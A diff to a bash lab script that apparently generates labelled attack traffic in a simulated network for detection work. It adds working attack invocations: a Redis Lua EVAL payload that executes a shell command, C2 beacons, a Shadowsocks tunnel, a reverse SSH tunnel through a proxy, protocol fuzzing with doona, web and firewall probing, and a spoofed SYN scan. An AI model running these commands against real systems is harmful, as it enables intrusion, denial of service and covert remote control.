@@ -1,7 +1,7 @@
 # More attacks of the sixth network, made when those of attacks.sh had been mended: other programs, other paces, other services. Sourced by ../armory.sh after attacks.sh.
 # shellcheck shell=bash disable=SC2034
 
-ARMORY_PACKAGES+=(dhcpstarv lua5.3 lua-socket tcl icmptx python3-paramiko python3-ldap3 yersinia)
+ARMORY_PACKAGES+=(corkscrew dirsearch doona python3-certifi python3-chardet sendip shadowsocks-libev tinyproxy wafw00f dhcpstarv lua5.3 lua-socket tcl icmptx python3-paramiko python3-ldap3 yersinia)
 # further SECONDS NAME ARGUMENTS...: a part of further.py on the present attacker; kept HOST NAME ARGUMENTS...: a server of it, for as long as the attack takes.
 further() { on "$1" /usr/bin/python3 "$LAB_HOME/armory/further.py" "${@:2}"; }
 kept() { ns_start "$1" /usr/bin/python3 "$LAB_HOME/armory/further.py" "${@:2}"; sleep 1; }
@@ -136,3 +136,15 @@ out mausezahn_refused dos-flood bad2 $APP; mausezahn_refused() { on 30 mausezahn
 out redis_benchmark dos-flood bad $APP; redis_benchmark() { on 25 redis-benchmark -h $APP -k 0 -c 20 -n 6000 -t set -q; }
 lan nping_beacon c2-beacon desk2 $BOSS; nping_beacon() { on 120 bash -c 'for i in $(seq 20); do nping -q -N --icmp --data "$(head -c 40 /dev/urandom | xxd -p -c 40)" -c 1 192.0.2.200; sleep 5; done'; }
 out redis_popen exploit bad $APP; redis_popen() { on 20 bash -c 'printf "EVAL \"local f=package.loadlib(%s/usr/lib/x86_64-linux-gnu/liblua5.1.so.0%s,%sluaopen_os%s); return f().execute(%sid%s)\" 0\r\n" "$2" "$2" "$2" "$2" "$2" "$2" | nc.openbsd -w 3 $1 6379' _ $APP "'"; }
+
+# --- programs of Debian that nothing above uses: fuzzers, recognisers of filters, tunnels inside proxies
+out dirsearch_default web-attack bad $APP; dirsearch_default() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 40 /usr/bin/env -i HOME=$LAB_DIR PATH=/usr/sbin:/usr/bin:/sbin:/bin dirsearch -u http://$APP:8080/ -q -t 10); }
+out dirsearch_tls web-attack bad2 $WWW; dirsearch_tls() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 40 /usr/bin/env -i HOME=$LAB_DIR PATH=/usr/sbin:/usr/bin:/sbin:/bin dirsearch -u https://$WWW/ -q -t 5); }
+out wafw00f_all web-attack bad $APP; wafw00f_all() { HOME=$LAB_DIR on 60 wafw00f -a http://$APP:8080/index.php; }
+out wafw00f_www web-attack bad2 $WWW; wafw00f_www() { HOME=$LAB_DIR on 60 wafw00f http://$WWW/; }
+out doona_http exploit bad2 $WWW; doona_http() { on 40 doona -m HTTP -t $WWW -o 0 -M 120; }
+out doona_smtp exploit bad $STORE; doona_smtp() { on 40 doona -m SMTP -t $STORE -u info@works.example -o 0 -M 80; }
+lan shadow_beacon c2-beacon desk $BOSS; shadow_beacon() { ns_start boss ss-server -s 0.0.0.0 -p 8388 -k sesame -m chacha20-ietf-poly1305; ns_start desk ss-local -s 192.0.2.200 -p 8388 -l 1080 -k sesame -m chacha20-ietf-poly1305; sleep 2; on 100 bash -c 'for i in $(seq 24); do curl -s -o /dev/null --socks5 127.0.0.1:1080 http://127.0.0.1/task; sleep 4; done'; }
+out sendip_syn port-scan bad2 $WWW; sendip_syn() { on 40 bash -c 'for p in $(seq 1 4 400); do sendip -p ipv4 -is 192.0.2.78 -p tcp -ts 40000 -td $p -tfs 1 '$WWW'; done'; }
+lan corkscrew_back c2-beacon desk $BOSS; corkscrew_back() { printf 'Port 3128\nTimeout 600\nListen 0.0.0.0\n' >"$LAB_DIR/tp.conf"; ns_start boss tinyproxy -d -c "$LAB_DIR/tp.conf"; sleep 1; on 60 ssh -R 2222:127.0.0.1:22 -o ProxyCommand="corkscrew 192.0.2.200 3128 127.0.0.1 22" "${SSH_OPTIONS[@]}" -i "$LAB_DIR/user" root@127.0.0.1 'for i in 1 2 3 4 5 6 7 8; do ls -l /usr/bin | head -30; sleep 5; done'; }
+out doona_dav exploit bad $WWW; doona_dav() { on 40 doona -m HTTP_WEBDAV -t $WWW -o 0 -M 80; }
